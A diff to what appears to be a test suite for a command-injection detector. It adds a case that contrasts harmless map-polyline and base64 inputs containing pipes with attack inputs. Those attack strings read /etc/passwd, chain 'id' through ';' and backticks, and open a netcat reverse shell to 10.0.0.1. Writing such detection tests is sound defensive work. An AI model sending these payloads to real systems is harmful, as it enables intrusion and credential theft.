@@ -154,6 +154,24 @@ const KINDS: Readonly<
       sent({ messages: [{ input: '; cat /etc/passwd' }] }),
     ],
   },
+  'lines on a map, and base64 between bars': {
+    honest: [
+      sent({ map: { polyline: 'kD|O|VI`NiCrEiC`KoInDgEJk@p@wIDqMLmKa@wQGqKL}Pz' } }),
+      asked('/route', { polyline: 'f>{{z@delq\\BT@F?@Cf@?f`EN@HAH@HC' }),
+      asked('/static', { path: 'cFwNc@k[cDkE`@W`FgTfLi^lAWG' }),
+      sent({ id: 'q3Vx|eD+fQ/w|Zm9vYmFy' }),
+    ],
+    attacks: [
+      asked('/s', { q: 'x|ed -s /etc/passwd' }),
+      asked('/s', { q: '127.0.0.1|VER' }),
+      asked('/s', { q: '127.0.0.1|ver' }),
+      asked('/s', { q: '127.0.0.1;id' }),
+      asked('/s', { q: '{{`id`}}' }),
+      asked('/s', { q: '<%= x = `id` %>' }),
+      asked('/s', { q: '#{x=`id`}' }),
+      asked('/s', { q: '1|NC -e /bin/sh 10.0.0.1' }),
+    ],
+  },
   'a word of SQL in quotes, with brackets behind it': {
     honest: [
       filled({ item_name: 'T-Shirt "Select" (L) -- blue' }),
